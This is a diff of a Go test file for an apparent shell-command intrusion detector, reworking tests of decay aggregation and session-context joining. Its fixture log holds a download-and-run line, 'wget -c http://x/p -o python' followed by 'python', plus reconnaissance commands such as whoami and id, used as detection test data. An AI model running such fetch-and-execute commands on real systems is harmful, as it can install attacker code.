@@ -3,9 +3,8 @@ package stream
 import (
 	"fmt"
 	"math"
+	"slices"
 	"testing"
-
-	"clmids/internal/tuning"
 )
 
 // stubScorer scores lines by table lookup (default def), counting calls.
@@ -52,12 +51,11 @@ func TestAggregations(t *testing.T) {
 	}{
 		{AggMax, 0.8},
 		{AggMean, (0.2 + 0.8 + 0.5) / 3},
-		// decay 0.5, newest first: (0.5·1 + 0.8·0.5 + 0.2·0.25)/(1.75)
-		{AggDecay, (0.5 + 0.8*0.5 + 0.2*0.25) / 1.75},
+		// decay 0.7, newest first: (0.5·1 + 0.8·0.7 + 0.2·0.49)/(2.19)
+		{AggDecay, (0.5 + 0.8*0.7 + 0.2*0.49) / 2.19},
 	} {
 		cfg := DefaultConfig()
 		cfg.Aggregation = tc.agg
-		cfg.Decay = 0.5
 		det := NewDetector(stub, cfg)
 		vs, err := det.Process(events)
 		if err != nil {
@@ -141,41 +139,59 @@ func TestMaxLengthEviction(t *testing.T) {
 	}
 }
 
-// TestContextJoinMatchesBuildContexts: the online context builder must
-// reproduce tuning.BuildContexts on the same timestamp-ordered log.
+// TestContextJoinMatchesBuildContexts: the detector's scoring inputs
+// equal BuildContexts over the same log however the log is split into two
+// batches. The log crosses IdleTimeout (a closed session attaches nothing)
+// and runs one user past MaxSessionLines.
 func TestContextJoinMatchesBuildContexts(t *testing.T) {
-	items := []tuning.TimedLine{
-		{User: "a", Time: 100, Line: "whoami"},
-		{User: "b", Time: 101, Line: "ls"},
-		{User: "a", Time: 110, Line: "wget -c http://x/p -o python"},
-		{User: "a", Time: 115, Line: "python"},
-		{User: "b", Time: 130, Line: "df -h"},
-		{User: "a", Time: 9000, Line: "df -h"}, // far later: no context
+	events := []Event{
+		ev("a", 100, "whoami"),
+		ev("b", 101, "ls"),
+		ev("a", 110, "wget -c http://x/p -o python"),
+		ev("a", 115, "python"),
+		ev("b", 130, "df -h"),
+		ev("b", 700, "id"),        // gap 570: in the context gap
+		ev("b", 1400, "uname -a"), // gap 700: past it, same session
+		ev("a", 9000, "df -h"),    // past IdleTimeout: a new session
+		ev("a", 9001, "ps aux"),
+		ev("a", 9002, "who"),
 	}
-	want := tuning.BuildContexts(items, tuning.ContextConfig{Window: 3, MaxGap: 600})
-
 	cfg := DefaultConfig()
 	cfg.ContextWindow = 3
-	cfg.ContextGap = 600
-	cfg.IdleTimeout = 1 << 40 // context gaps, not sessionization, under test
-	det := NewDetector(&stubScorer{}, cfg)
-	events := make([]Event, len(items))
-	for i, it := range items {
-		events[i] = ev(it.User, it.Time, it.Line)
+	want := BuildContexts(events, cfg)
+	if want[3] != "whoami ; wget -c http://x/p -o python ; python" || want[7] != "df -h" {
+		t.Fatalf("BuildContexts = %q", want)
 	}
-	vs, err := det.Process(events)
-	if err != nil {
-		t.Fatal(err)
+	for _, maxLines := range []int{cfg.MaxSessionLines, 2} {
+		cfg.MaxSessionLines = maxLines
+		want := BuildContexts(events, cfg)
+		for split := 0; split <= len(events); split++ {
+			det := NewDetector(&stubScorer{}, cfg)
+			var got []string
+			for _, batch := range [][]Event{events[:split], events[split:]} {
+				vs, err := det.Process(batch)
+				if err != nil {
+					t.Fatal(err)
+				}
+				got = append(got, scoringInputs(vs)...)
+			}
+			if !slices.Equal(got, want) {
+				t.Fatalf("MaxSessionLines %d, split at %d: detector inputs\n%q\nBuildContexts\n%q", maxLines, split, got, want)
+			}
+		}
 	}
+}
+
+// scoringInputs returns each verdict's context-scored input: the join, or
+// the line itself when nothing attached.
+func scoringInputs(vs []Verdict) []string {
+	out := make([]string, len(vs))
 	for i, v := range vs {
-		got := v.Context
-		if got == "" {
-			got = v.Line
-		}
-		if got != want[i] {
-			t.Errorf("event %d: context %q, want %q", i, got, want[i])
+		if out[i] = v.Context; out[i] == "" {
+			out[i] = v.Line
 		}
 	}
+	return out
 }
 
 // TestBatchDedup: one Process call issues one Score call whose inputs are
